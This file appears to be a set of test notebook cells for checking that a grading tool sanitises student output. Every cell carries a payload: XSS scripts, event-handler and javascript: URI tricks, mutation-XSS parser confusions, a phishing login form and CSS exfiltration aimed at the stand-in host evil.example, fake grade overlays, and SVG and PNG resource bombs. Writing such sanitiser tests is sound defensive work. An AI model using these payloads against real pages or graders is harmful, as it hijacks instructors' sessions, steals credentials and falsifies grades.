"""Pages that act on their reader: what an instructor's browser would run."""
# Cells of notebooks, not a module.
# ruff: noqa

# /// script
# tells = "Displays HTML with scripts, which would read the page and the Formgrader around it."
# stopped_by = "clean page"
# stock = "acts on the page"
# ///
# %%
from IPython.display import HTML, display

display(HTML("<script>attack()</script>"))
display(HTML("<SCRIPT SRC=//evil.example/x.js></SCRIPT><scr<script>ipt>attack()</script>"))
display(
    HTML(
        "<svg><script>attack()</script></svg><math><mtext><script>attack()</script></mtext></math>"
    )
)
display(HTML('<noscript><p title="</noscript><script>attack()</script>">'))
HTML("<template><script>attack()</script></template><!--><script>attack()</script>-->")

# /// event_handlers
# tells = "Displays HTML whose attributes run when it is shown."
# stopped_by = "clean page"
# stock = "acts on the page"
# ///
# %%
from IPython.display import HTML, display

for text in (
    "<img src=x onerror=attack()>",
    "<body onload=attack()>",
    "<svg onload=attack()></svg>",
    "<details open ontoggle=attack()>x</details>",
    "<input autofocus onfocus=attack()>",
    "<video><source onerror=attack()></video>",
    "<a onmouseover=attack()>x</a>",
    "<svg><animate onbegin=attack() attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=attack()></style></table></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=attack()>",
    '<svg></p><style><a id="</style><img src=1 onerror=attack()>">',
    '<div style="animation-name:x" onanimationstart=attack()>x</div>',
):
    display(HTML(text))

# /// frames_and_objects
# tells = "Displays frames, objects and forms, which load other pages or send this one away."
# stopped_by = "clean page"
# stock = "acts on the page"
# ///
# %%
from IPython.display import HTML, IFrame, display

display(IFrame("https://evil.example/", 800, 600))
for text in (
    "<iframe srcdoc='<script>attack()</script>'></iframe>",
    "<embed src=//evil.example/x>",
    "<object data='data:text/html,<script>attack()</script>'></object>",
    "<form action=https://evil.example/><input name=password><button>Log in</button></form>",
    "<base href=https://evil.example/>",
    "<portal src=//evil.example></portal>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<applet code=x></applet>",
):
    display(HTML(text))

# /// links
# tells = "Displays links that run code when they are followed."
# stopped_by = "clean page"
# stock = "acts on the page"
# ///
# %%
from IPython.display import HTML, display

for link in (
    "javascript:attack()",
    "JaVaScRiPt:attack()",
    "java&#9;script:attack()",
    "&#x6a;avascript:attack()",
    "data:text/html,<script>attack()</script>",
    "vbscript:attack()",
    " \x01javascript:attack()",
    "java\nscript:attack()",
):
    display(HTML(f'<a href="{link}">solution</a>'))
    display(HTML(f'<svg><a xlink:href="{link}"><text y=20>solution</text></a></svg>'))
    display(HTML(f'<form action="{link}"><button formaction="{link}">x</button></form>'))

# /// styles
# tells = "Displays styles that cover the page, imitate the grade, or tell others what is on it."
# stopped_by = "clean page"
# stock = "acts on the page"
# ///
# %%
from IPython.display import HTML, display

display(HTML("<style>.score {display: none} body::after {content: '20 of 20 points'}</style>"))
display(
    HTML(
        "<style>@import url(//evil.example/x.css); input[value^=a] {background: url(//e/a)}</style>"
    )
)
display(HTML('<div style="position:fixed;inset:0;z-index:9999;background:white">20 / 20</div>'))
display(HTML('<div style="background:url(javascript:attack())">x</div>'))
display(HTML('<div style="width:expression(attack())">x</div>'))

# /// pictures
# tells = "Displays SVG with scripts and foreign objects, and image data that breaks out of its tag."
# stopped_by = "clean page"
# stock = "acts on the page"
# ///
# %%
from IPython.display import SVG, display, publish_display_data

SCRIPTED = """<svg xmlns="http://www.w3.org/2000/svg" onload="attack()"><script>attack()</script>
<foreignObject><iframe src="javascript:attack()"></iframe></foreignObject>
<use href="data:image/svg+xml,&lt;svg id='x' onload='attack()'/&gt;#x"/>
<set attributeName="href" to="javascript:attack()"/></svg>"""
display(SVG(SCRIPTED))
publish_display_data({"image/svg+xml": SCRIPTED})
publish_display_data({"image/png": 'x" onerror="attack()" x="'})
publish_display_data({"image/jpeg": "x'><script>attack()</script>"})
publish_display_data(
    {"image/png": "iVBORw0KGgo="},
    {"image/png": {"width": '1" onload="attack()', "height": "<script>attack()"}},
)
publish_display_data(
    {"image/png": "iVBORw0KGgo=", "text/plain": '" onerror="attack()'},
    {"alt": '" onerror="attack()', "image/png": {"alt": '" onerror="attack()'}},
)

# /// pictures_that_swell
# tells = "Displays two kilobytes of SVG that draw a billion paths, and a PNG of a billion pixels."
# stopped_by = "clean page"
# ///
# %%
from base64 import b64encode

from IPython.display import HTML, display, publish_display_data

GROUPS = "".join(f'<g id="a{i}">{f"""<use href="#a{i - 1}"/>""" * 10}</g>' for i in range(1, 10))
SWELLS = f'<svg xmlns="http://www.w3.org/2000/svg"><path id="a0" d="M 0 0 L 9 9"/>{GROUPS}</svg>'
WIDE = b64encode(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + (50_000).to_bytes(4, "big") * 2).decode()
publish_display_data({"image/svg+xml": SWELLS})
publish_display_data({"image/png": WIDE})
display(HTML(f'<img src="data:image/svg+xml;base64,{b64encode(SWELLS.encode()).decode()}">'))
display(HTML(f'<img src="data:image/png;base64,{WIDE}">'))

# /// other_types
# tells = "Displays JavaScript, widgets, LaTeX, Markdown and PDF, each a way to run code."
# stopped_by = "clean page"
# stock = "acts on the page"
# ///
# %%
from IPython.display import Javascript, Latex, Markdown, display, publish_display_data

display(Javascript("attack()"))
display(Latex(r"$\href{javascript:attack()}{x}$ <script>attack()</script>"))
display(Markdown("<script>attack()</script> [x](javascript:attack()) <img src=x onerror=attack()>"))
publish_display_data(
    {
        "application/vnd.jupyter.widget-view+json": {
            "model_id": "</script><script>attack()</script>",
            "version_major": 2,
        }
    }
)
publish_display_data({"application/javascript": "attack()", "text/plain": "x"})
publish_display_data({"application/pdf": "x' onload='attack()"})
publish_display_data({"text/html": ["<scr", "ipt>attack()</scr", "ipt>"]})
publish_display_data({"text/vnd.mermaid": "graph TD; A[<script>attack()</script>]"})
publish_display_data({"application/vnd.plotly.v1+json": {"data": "<script>attack()</script>"}})
publish_display_data({"text/html; charset=utf-8": "<script>attack()</script>"})
publish_display_data({'text/"><script>attack()</script>': "x"})

# /// text_that_is_markup
# tells = "Prints and raises text that is markup, with escape sequences around it."
# stopped_by = "clean page"
# stock = "shown as text"
# ///
# %%
print("<script>attack()</script>\x1b[31m<img src=x onerror=attack()>\x1b[0m")
print("\x1b]8;;javascript:attack()\x1b\\solution\x1b]8;;\x1b\\", file=sys.stderr)
print('\x1b[38;2;1;1;1"onclick=attack();m x')
# %%
raise type("<script>attack()</script>", (Exception,), {})("<img src=x onerror=attack()>")


# %% forward_propagation
def forward_propagation(x, theta):
    raise type("Odd<script>attack()</script>", (Exception,), {})("<img src=x onerror=attack()>")


# %% backward_propagation
def backward_propagation(x, theta):
    return "<script>attack()</script>"


# %% numerical_derivative
def numerical_derivative(f, theta, epsilon=1e-5):
    raise ValueError("\x1b[31m</pre><script>attack()</script>")


# /// markdown
# tells = "Writes HTML, links and formulas that run code into its text."
# stopped_by = "clean page"
# stock = "acts on the page"
# ///
# %% [markdown]
r"""
<script>attack()</script> <img src=x onerror=attack()> <iframe src="javascript:attack()"></iframe>

<style>body {display: none}</style> <svg onload=attack()></svg> <form action="//evil.example"></form>

[a solution](javascript:attack()) [another](data:text/html,<script>attack()</script>)
![x](x" onerror="attack()) <javascript:attack()> [ref]

[ref]: javascript:attack() "x"

$\href{javascript:attack()}{x}$ $$\unicode{<script>attack()</script>}$$ $<img src=x onerror=attack()>$

```"><script>attack()</script>
```

<div onclick=attack() style="position:fixed;inset:0">

| a <script>attack()</script> |
|---|
"""
# %% explain_zero
"""
Because <img src=x onerror=attack()> and <script>attack()</script>, as `</code><script>attack()`
shows: [proof](javascript:attack()).
"""

# /// imitates_the_page
# tells = "Closes the cell's own markup, and goes on with a page and a score of its own making."
# stopped_by = "clean page"
# stock = "acts on the page"
# ///
# %%
from IPython.display import HTML, display

display(
    HTML("</div></div></div></main></body></html><html><body onload=attack()><h1>Score: 20</h1>")
)
display(HTML("<!-- " + "x" * 100))
display(HTML("<plaintext>"))
display(HTML("<textarea><div>"))
display(HTML("<title>x</title><xmp>"))
